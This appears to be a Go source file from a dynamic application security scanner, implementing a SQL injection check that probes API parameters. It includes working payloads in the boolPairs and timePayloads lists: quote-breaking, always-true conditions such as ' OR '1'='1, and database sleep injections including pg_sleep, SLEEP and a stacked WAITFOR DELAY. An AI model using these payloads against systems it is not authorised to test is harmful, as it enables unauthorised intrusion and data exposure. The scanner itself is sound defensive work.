package injection

import (
	"bytes"
	"context"
	"fmt"
	"strconv"
	"strings"
	"time"

	"github.com/escarp/escarp"
	"github.com/escarp/escarp/internal/check"
	"github.com/escarp/escarp/internal/check/checkkit"
)

// maxPoints bounds the points probed per operation.
const maxPoints = 12

// DefaultDelay is the delay time-based payloads ask for.
const DefaultDelay = 2 * time.Second

// SQLi is ESC-DAST-INJ-001: SQL injection, error-, boolean- and time-based.
type SQLi struct {
	// Delay is what time-based payloads ask the database to sleep
	// (default [DefaultDelay]).
	Delay time.Duration
}

var _ check.Check = (*SQLi)(nil)

// Info returns the check's metadata.
func (c *SQLi) Info() check.Info {
	return check.Info{
		ID:       "ESC-DAST-INJ-001",
		Title:    "SQL injection",
		Severity: escarp.SeverityCritical,
		OWASP:    "API8:2023",
		CWE:      []string{"CWE-89"},
		Description: "Puts SQL metacharacters into every parameter and body member of a valid request. " +
			"Error-based: a quote must produce a database error message that an escaped quote does not, twice with different payloads. " +
			"Boolean-based: an always-true and an always-false condition of equal length must give different, repeatable answers. " +
			"Time-based: a sleep (SQLite sleep(n), PostgreSQL pg_sleep, MySQL SLEEP, SQL Server WAITFOR) must delay the answer by at least 80% of the delay twice, while the same payload with a zero delay does not.",
		Remediation: "Never build SQL from strings; bind every value as a parameter:\n\n" +
			"```go\nrow := db.QueryRowContext(ctx, \"SELECT id, name FROM users WHERE name = ?\", name)\n```",
		References: []string{
			"https://owasp.org/API-Security/editions/2023/en/0xa8-security-misconfiguration/",
			"https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
			"https://cwe.mitre.org/data/definitions/89.html",
		},
		Scope:    check.PerOperation,
		Requires: check.Requirements{Mutating: true},
	}
}

// Run probes every point of the operation.
func (c *SQLi) Run(ctx context.Context, p *check.Pass) error {
	req, skip, err := checkkit.Prepare(ctx, p, p.Op, checkkit.Prober(p))
	if skip {
		return err
	}
	req = checkkit.Inputs(p, req)
	base, bresp, ok, err := checkkit.Baseline(ctx, p, req, 2)
	if !ok || err != nil {
		return err
	}
	pts := checkkit.Points(p.Op, req)
	if len(pts) > maxPoints {
		pts = pts[:maxPoints]
	}
	info := c.Info()
	for _, pt := range pts {
		if pt.Kind == "boolean" {
			continue
		}
		found, err := c.errorBased(ctx, p, req, bresp, pt, info)
		if err != nil {
			return err
		}
		if !found {
			found, err = c.booleanBased(ctx, p, req, pt, info)
			if err != nil {
				return err
			}
		}
		if !found {
			_, err = c.timeBased(ctx, p, req, base, pt, info)
			if err != nil {
				return err
			}
		}
	}
	return nil
}

func (c *SQLi) errorBased(ctx context.Context, p *check.Pass, req *check.Request, base *check.Response, pt checkkit.Point, info check.Info) (bool, error) {
	if checkkit.SQLError(base.Body) != "" {
		return false, nil
	}
	r1, err := checkkit.Send(ctx, p, with(pt, req, pt.Value+"'"))
	if err != nil || r1 == nil {
		return false, err
	}
	sig := checkkit.SQLError(r1.Body)
	if sig == "" {
		return false, nil
	}
	// Control: an escaped quote is valid SQL in any string literal.
	ctl, err := checkkit.Send(ctx, p, with(pt, req, pt.Value+"''"))
	if err != nil || ctl == nil {
		return false, err
	}
	if checkkit.SQLError(ctl.Body) != "" && pt.Kind == "string" {
		return false, nil
	}
	r2, err := checkkit.Send(ctx, p, with(pt, req, pt.Value+`")'`))
	if err != nil || r2 == nil {
		return false, err
	}
	if checkkit.SQLError(r2.Body) == "" {
		return false, nil
	}
	p.Report(checkkit.Finding(info, p.Op, r1, pt.Param(),
		fmt.Sprintf("SQL injection in %s of %s: a quote makes the database fail (%q)", pt.Describe(), p.Op.Key(), sig),
		"error-based: payloads ' and \")' both returned a database error; the escaped quote '' did not"))
	return true, nil
}

// boolPairs are (true, false) conditions of equal length, for string and
// numeric contexts.
var boolPairs = map[string][2][2]string{
	"string": {{`' OR '1'='1`, `' OR '1'='2`}, {`' OR 'a'='a`, `' OR 'a'='b`}},
	"number": {{` OR 1=1`, ` OR 1=2`}, {` OR 2>1`, ` OR 2>3`}},
}

func (c *SQLi) booleanBased(ctx context.Context, p *check.Pass, req *check.Request, pt checkkit.Point, info check.Info) (bool, error) {
	ctxKind := "string"
	if _, err := strconv.ParseFloat(pt.Value, 64); err == nil && (pt.Kind == "number" || pt.In != checkkit.InBody) {
		ctxKind = "number"
	}
	pairs := boolPairs[ctxKind]
	var got [2][2]*check.Response
	for i, pair := range pairs {
		for j, payload := range pair {
			v := pt.Value + payload
			if ctxKind == "number" && pt.In == checkkit.InBody {
				v = pt.Value + payload
			}
			r, err := checkkit.Send(ctx, p, with(pt, req, v))
			if err != nil || r == nil {
				return false, err
			}
			got[i][j] = r
			if i == 0 && j == 1 && !differs(got[0][0], got[0][1], pair) {
				return false, nil
			}
		}
	}
	// Repeatable: both true answers alike, both false answers alike, and
	// the true one larger or more successful.
	t1, f1, t2, f2 := got[0][0], got[0][1], got[1][0], got[1][1]
	if differs(t1, t2, pairs[1]) || differs(f1, f2, pairs[1]) || !differs(t2, f2, pairs[1]) {
		return false, nil
	}
	if !(better(t1, f1) && better(t2, f2)) {
		return false, nil
	}
	p.Report(checkkit.Finding(info, p.Op, t1, pt.Param(),
		fmt.Sprintf("SQL injection in %s of %s: an always-true condition changes the answer", pt.Describe(), p.Op.Key()),
		fmt.Sprintf("boolean-based: %q gave %d (%d bytes), %q gave %d (%d bytes); repeated with %q/%q",
			pairs[0][0], t1.Status, len(t1.Body), pairs[0][1], f1.Status, len(f1.Body), pairs[1][0], pairs[1][1])))
	return true, nil
}

// differs reports whether two responses differ beyond the reflected
// payloads (the pair has equal lengths, so a reflection does not change
// the length).
func differs(a, b *check.Response, pair [2]string) bool {
	if a.Status != b.Status {
		return true
	}
	ab := bytes.ReplaceAll(a.Body, []byte(pair[0]), nil)
	bb := bytes.ReplaceAll(b.Body, []byte(pair[1]), nil)
	ab = bytes.ReplaceAll(ab, []byte(pair[1]), nil)
	bb = bytes.ReplaceAll(bb, []byte(pair[0]), nil)
	d := len(ab) - len(bb)
	if d < 0 {
		d = -d
	}
	return d > 16 && d*10 > min(len(ab), len(bb))
}

// better reports whether a is the more successful answer: 2xx against an
// error, or a longer 2xx body.
func better(a, b *check.Response) bool {
	if a.OK() != b.OK() {
		return a.OK()
	}
	return a.OK() && len(a.Body) > len(b.Body)
}

// timePayloads are time-based payloads, %[1]s being the delay in seconds
// and %[2]s the delay as HH:MM:SS for WAITFOR. Each asks for one sleep,
// not one per row.
var timePayloads = []string{
	`'||(SELECT sleep(%[1]s))||'`,
	`' AND (SELECT sleep(%[1]s)) IS NOT NULL OR 'x'='`,
	` AND (SELECT sleep(%[1]s)) IS NOT NULL`,
	`'||(SELECT pg_sleep(%[1]s))||'`,
	` AND (SELECT 1 FROM pg_sleep(%[1]s)) IS NOT NULL`,
	`' AND (SELECT 1 FROM (SELECT SLEEP(%[1]s))x) AND 'x'='x`,
	`';WAITFOR DELAY '%[2]s'--`,
}

func (c *SQLi) timeBased(ctx context.Context, p *check.Pass, req *check.Request, base time.Duration, pt checkkit.Point, info check.Info) (bool, error) {
	delay := c.Delay
	if delay <= 0 {
		delay = DefaultDelay
	}
	for _, tpl := range timePayloads {
		if pt.Kind == "number" && strings.HasPrefix(tpl, "'") {
			continue
		}
		mk := func(d time.Duration) *check.Request {
			return with(pt, req, pt.Value+fmt.Sprintf(tpl, seconds(d), hms(d)))
		}
		resp, note, ok, err := checkkit.DelayProbe(ctx, p, mk, delay, base)
		if err != nil {
			return false, err
		}
		if ok {
			p.Report(checkkit.Finding(info, p.Op, resp, pt.Param(),
				fmt.Sprintf("SQL injection in %s of %s: a database sleep delays the answer", pt.Describe(), p.Op.Key()),
				"time-based: payload "+fmt.Sprintf(tpl, seconds(delay), hms(delay))+"; "+note))
			return true, nil
		}
	}
	return false, nil
}

// with sets a string payload at pt, as a string even in a numeric JSON
// member (the server then sees the text it would have concatenated).
func with(pt checkkit.Point, req *check.Request, v string) *check.Request {
	return pt.With(req, v)
}

func seconds(d time.Duration) string {
	if d%time.Second == 0 {
		return strconv.Itoa(int(d / time.Second))
	}
	return strconv.FormatFloat(d.Seconds(), 'f', -1, 64)
}

func hms(d time.Duration) string {
	s := d.Seconds()
	h := int(s) / 3600
	m := int(s) / 60 % 60
	sec := s - float64(h*3600+m*60)
	if d%time.Second == 0 {
		return fmt.Sprintf("%02d:%02d:%02d", h, m, int(sec))
	}
	return fmt.Sprintf("%02d:%02d:%06.3f", h, m, sec)
}
